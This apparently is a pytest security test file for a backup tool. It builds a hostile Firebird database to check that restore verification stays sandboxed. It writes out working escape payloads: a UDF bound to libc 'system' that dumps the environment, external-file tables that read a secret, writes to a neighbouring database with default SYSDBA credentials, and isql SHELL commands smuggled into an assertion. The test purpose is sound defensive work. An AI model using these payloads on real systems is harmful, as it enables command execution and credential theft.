"""
A Firebird database that wants out: its code runs where gbak and isql open what was restored as a test.

The canaries are a folder that everybody may write to, a database in it, a secret in the worker's environment, and one
in a file.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from airflow_backup.core.errors import VerifyError
from airflow_backup.core.process import cage
from airflow_backup.engines.firebird import runner
from airflow_backup.engines.firebird.engine import FirebirdEngine
from airflow_backup.engines.protocol import VerificationReport
from airflow_backup.engines.shared import assertions as shared_assertions
from airflow_backup.engines.shared import limits
from airflow_backup.engines.shared.test_server import Place as Room
from contract.firebird.test_firebird import Place, place
from support.servers.firebird import is_installed
from support.stored.sets import chain_of

__all__ = ["place"]

if not is_installed() and not os.environ.get("CI"):
    pytest.skip("Firebird is not installed", allow_module_level=True)
pytestmark = pytest.mark.service

SECRET = "canary-of-the-worker-8c2"
KEPT = {"secret", "neighbour.fdb", "library.so"}


@pytest.fixture
def mark(place: Place, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder outside in which anybody may make a file."""
    folder = Path(tempfile.mkdtemp(prefix="canary-", dir="/tmp"))
    folder.chmod(0o777)
    (folder / "secret").write_text(SECRET.ljust(40))
    with open("/proc/self/maps", encoding="ascii") as maps:
        (libc, *_) = [each.split()[-1] for each in maps if "libc.so" in each or "libc-2" in each]
    shutil.copy(libc, folder / "library.so")  # one with a function `system`
    neighbour = place.firebird.make("neighbour.fdb").rename(folder / "neighbour.fdb")
    neighbour.chmod(0o666)
    monkeypatch.setenv("AIRFLOW__CORE__FERNET_KEY", SECRET)
    yield folder
    shutil.rmtree(folder)


def attempts(mark: Path) -> list[str]:
    """Return statements that try everything; what comes out is left in the mark."""
    return [
        f"INSERT INTO quiet SELECT run('touch {mark}/program; env > {mark}/environment') FROM rdb$database",
        "INSERT INTO written VALUES ('x')",
        "INSERT INTO taken SELECT line FROM secret",
    ]


def definitions(mark: Path) -> list[str]:
    """Return more that leaves files, and breaks a restore wherever it is tried."""
    return [
        f"CREATE SHADOW 7 '{mark}/shadow'",
        f"ALTER DATABASE ADD DIFFERENCE FILE '{mark}/difference'",
        "ALTER DATABASE BEGIN BACKUP",
        f"ALTER DATABASE ADD FILE '{mark}/second' STARTING 100000",
    ]


def attack(mark: Path, statements: list[str]) -> str:
    """Return the body of code that tries all of them, and lets nobody notice."""
    tries = "".join(
        "BEGIN IN AUTONOMOUS TRANSACTION DO EXECUTE STATEMENT '"
        + each.replace("'", "''")
        + "'; WHEN ANY DO BEGIN END END\n"
        for each in statements
    )
    outside = "".join(
        f"BEGIN EXECUTE STATEMENT 'INSERT INTO note VALUES (666, ''{SECRET}'')' ON EXTERNAL '{door}{mark}/neighbour.fdb' "
        "AS USER 'SYSDBA' PASSWORD 'masterkey'; WHEN ANY DO BEGIN END END\n"
        for door in ("", "localhost:")
    )
    return tries + outside


def hostile(place: Place, mark: Path, way: str) -> None:
    """Make the source: harmless while it is filled, since it is not the original that is to be hurt."""
    place.database = place.firebird.folder / "hostile.fdb"
    configuration = place.firebird.folder / "conf" / "firebird.conf"
    configuration.write_text(
        f"{configuration.read_text()}ExternalFileAccess = Full\nUdfAccess = Full\n"
    )
    code = attack(mark, attempts(mark))
    last = attack(mark, definitions(mark)) if way == "definitions" else code
    script = f"""
        CREATE DATABASE '{place.database}' PAGE_SIZE 8192;
        DECLARE EXTERNAL FUNCTION run CSTRING(1000) RETURNS INT BY VALUE ENTRY_POINT 'system' MODULE_NAME '{mark}/library.so';
        CREATE TABLE kept (n INT, m COMPUTED BY (n + 1)); CREATE TABLE quiet (n INT);
        CREATE TABLE written EXTERNAL FILE '{mark}/external' (t CHAR(1));
        CREATE TABLE secret EXTERNAL FILE '{mark}/secret' (line CHAR(40));
        CREATE TABLE taken EXTERNAL FILE '{mark}/taken' (line CHAR(40));
        COMMIT; SET TERM ^;
        CREATE FUNCTION attack (n INT) RETURNS INT AS BEGIN RETURN n; END^
        CREATE PROCEDURE attacks RETURNS (n INT) AS BEGIN {code} n = 1; SUSPEND; END^
        SET TERM ;^ COMMIT;
        CREATE VIEW looks_harmless AS SELECT n FROM attacks; COMMIT;
        INSERT INTO kept VALUES (1); COMMIT;
        {WAYS.get(way, WAYS["index"]).replace("CODE", code.replace("IN AUTONOMOUS TRANSACTION DO ", ""))} COMMIT;
        SET TERM ^; ALTER FUNCTION attack (n INT) RETURNS INT AS BEGIN {last} RETURN n; END^ SET TERM ;^ COMMIT;
    """
    subprocess.run(
        ["isql-fb", "-q", "-b", "-nodbtriggers", "-user", "SYSDBA"],
        input=script,
        env={**os.environ, **place.firebird.environment},
        check=True,
        capture_output=True,
        text=True,
    )


WAYS = {
    "index": "CREATE INDEX i ON kept COMPUTED BY (attack(n));",
    "check": "ALTER TABLE kept ADD CHECK (attack(n) > 0);",
    "computed": "ALTER TABLE kept ADD c COMPUTED BY (attack(n));",
    "default": "ALTER TABLE kept ADD d INT DEFAULT 1 NOT NULL CHECK (attack(d) > 0);",
    "triggers": "SET TERM ^; CREATE TRIGGER a ON CONNECT AS BEGIN CODE END^ CREATE TRIGGER b ON TRANSACTION START AS "
    "BEGIN CODE END^ CREATE TRIGGER c ON DISCONNECT AS BEGIN CODE END^ CREATE TRIGGER d ON TRANSACTION COMMIT AS "
    "BEGIN CODE END^ CREATE TRIGGER e FOR kept BEFORE INSERT AS BEGIN CODE END^ SET TERM ;^",
}


def hold_by(how: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Leave one of the two walls standing, or none."""
    if how in ("settings", "nothing"):
        monkeypatch.setattr(cage, "_holding", lambda user: ())
    if how in ("sandbox", "nothing"):

        def open_to_all(where: Room) -> dict[str, str]:
            everything = ("DatabaseAccess", "ExternalFileAccess", "UdfAccess")
            return {
                **dict.fromkeys(everything, "Full"),
                "TempDirectories": str(where.folder / "tmp"),
            }

        monkeypatch.setattr(runner, "_settings", open_to_all)


def left(place: Place, mark: Path) -> list[str]:
    """Return what came out: files, and rows in the database next door."""
    found = sorted({*os.listdir(mark)} - KEPT)
    rows = place.firebird.ask(mark / "neighbour.fdb", "SELECT COUNT(*) FROM note")
    return [*found, *(["a row next door"] if rows != ["0"] else [])]


def tried(place: Place, method: str, *assertions: str) -> VerificationReport:
    chain = chain_of(place.job(method), place.take(1, method))
    return FirebirdEngine().try_restore(chain, place.context, assertions=assertions)


def emptied(place: Place, mark: Path) -> None:
    place.firebird.run(mark / "neighbour.fdb", "DELETE FROM note; COMMIT;")
    for name in {*os.listdir(mark)} - KEPT:
        (mark / name).unlink()


@pytest.mark.parametrize("method", ["logical", "physical"])
@pytest.mark.parametrize("way", WAYS)
def test_code_of_a_database_gets_nowhere(
    place: Place, mark: Path, monkeypatch: pytest.MonkeyPatch, way: str, method: str
) -> None:
    hostile(place, mark, way)
    chain = chain_of(place.job(method), place.take(1, method))
    emptied(place, mark)
    assert left(place, mark) == []
    asked = ["SELECT COUNT(*) = 1 FROM kept", "SELECT SUM(n) = 1 FROM looks_harmless"]
    for how in ("both", "sandbox"):
        with monkeypatch.context() as patch:
            hold_by(how, patch)
            report = FirebirdEngine().try_restore(chain, place.context, assertions=asked)
        assert left(place, mark) == [], how
        assert report.inconclusive is None, report.inconclusive
        assert {"no network", "landlock", "seccomp", "limits"} <= {*report.isolation}
        assert report.counts["KEPT"] == 1


def test_the_attack_works_where_nothing_holds_it(
    place: Place, mark: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile(place, mark, "index")
    chain = chain_of(place.job("logical"), place.take(1, "logical"))
    emptied(place, mark)
    hold_by("nothing", monkeypatch)
    report = FirebirdEngine().try_restore(chain, place.context)
    assert "landlock" not in report.isolation
    everything = {"program", "environment", "external", "taken", "a row next door"}
    assert everything <= {*left(place, mark)}
    # ... and even then there is no secret of the worker in the environment.
    assert SECRET not in (mark / "environment").read_text()
    assert SECRET in (mark / "taken").read_text()


def test_settings_of_our_own_hold_what_they_can_where_there_is_no_sandbox(
    place: Place, mark: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile(place, mark, "index")
    chain = chain_of(place.job("logical"), place.take(1, "logical"))
    emptied(place, mark)
    hold_by("settings", monkeypatch)
    report = FirebirdEngine().try_restore(chain, place.context)
    assert "module at location" in str(report.inconclusive)
    assert left(place, mark) == []


@pytest.mark.parametrize("how", ["both", "nothing"])
def test_definitions_make_no_file_outside(
    place: Place, mark: Path, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    hostile(place, mark, "definitions")
    chain = chain_of(place.job("logical"), place.take(1, "logical"))
    emptied(place, mark)
    hold_by(how, monkeypatch)
    with pytest.raises(VerifyError, match="DELETE operation is not allowed for system table"):
        FirebirdEngine().try_restore(chain, place.context)
    assert left(place, mark) == (
        [] if how == "both" else ["difference", "second", "shadow", "a row next door"]
    )


def test_a_dump_that_never_ends_is_ended(
    place: Place, mark: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile(place, mark, "index")
    endless = "BEGIN WHILE (n > 0) DO n = n + 1; RETURN n; END"
    place.firebird.run(
        place.database,
        f"SET TERM ^; ALTER FUNCTION attack (n BIGINT) RETURNS BIGINT AS {endless}^ SET TERM ;^ COMMIT;",
    )
    chain = chain_of(place.job("logical"), place.take(1, "logical"))
    monkeypatch.setattr(limits, "_LEAST_SECONDS", 2.0)
    monkeypatch.setattr(limits, "_LOOK", 0.2)
    report = FirebirdEngine().try_restore(chain, place.context)
    assert "the restore test was ended after" in str(report.inconclusive)


def test_an_assertion_whose_code_never_ends_is_ended(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(shared_assertions, "LIMIT", 1.0)
    place.firebird.run(
        place.database,
        "SET TERM ^; CREATE PROCEDURE forever RETURNS (n BIGINT) AS BEGIN n = 1; WHILE (n > 0) DO n = n + 1; SUSPEND; END^ "
        "SET TERM ;^ COMMIT; CREATE VIEW looks_harmless AS SELECT n FROM forever; COMMIT;",
    )
    with pytest.raises(VerifyError, match="was ended after 1 seconds"):
        tried(place, "logical", "SELECT SUM(n) FROM looks_harmless")


def test_isql_itself_runs_no_program_where_a_question_got_through_as_a_command(
    place: Place, mark: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from airflow_backup.engines.firebird import questions

    monkeypatch.setattr(questions, "query_of", lambda text: text)
    chain = chain_of(place.job("logical"), place.take(1, "logical"))
    told = f"SELECT 1 FROM rdb$database;\nSHELL touch {mark}/program;\nOUTPUT {mark}/written"
    for how in ("both", "nothing"):
        with monkeypatch.context() as patch:
            hold_by(how, patch)
            with contextlib.suppress(VerifyError):
                FirebirdEngine().try_restore(chain, place.context, assertions=[told])
        assert left(place, mark) == ([] if how == "both" else ["program", "written"]), how


def test_a_database_next_door_hears_nothing(
    place: Place, mark: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The settings open, and a provider for other machines: no packet leaves the sandbox."""
    came = threading.Event()
    with socket.socket() as door:
        door.bind(("127.0.0.1", 0))
        door.listen()

        def wait() -> None:
            door.accept()[0].close()
            came.set()

        threading.Thread(target=wait, daemon=True).start()
        port = door.getsockname()[1]
        place.firebird.run(
            place.database,
            "SET TERM ^; CREATE PROCEDURE calls RETURNS (n INT) AS BEGIN n = 1; BEGIN EXECUTE STATEMENT "
            f"'SELECT 1 FROM rdb$database' ON EXTERNAL 'localhost/{port}:/x.fdb' AS USER 'a' PASSWORD 'b' INTO :n; "
            "WHEN ANY DO n = 1; END SUSPEND; END^ SET TERM ;^ COMMIT;",
        )
        chain = chain_of(place.job("logical"), place.take(1, "logical"))
        for how in ("sandbox", "settings", "nothing"):
            with monkeypatch.context() as patch:
                hold_by(how, patch)
                FirebirdEngine().try_restore(
                    chain, place.context, assertions=["SELECT SUM(n) = 1 FROM calls"]
                )
            assert came.wait(5 if how == "nothing" else 0.5) is (how == "nothing"), how
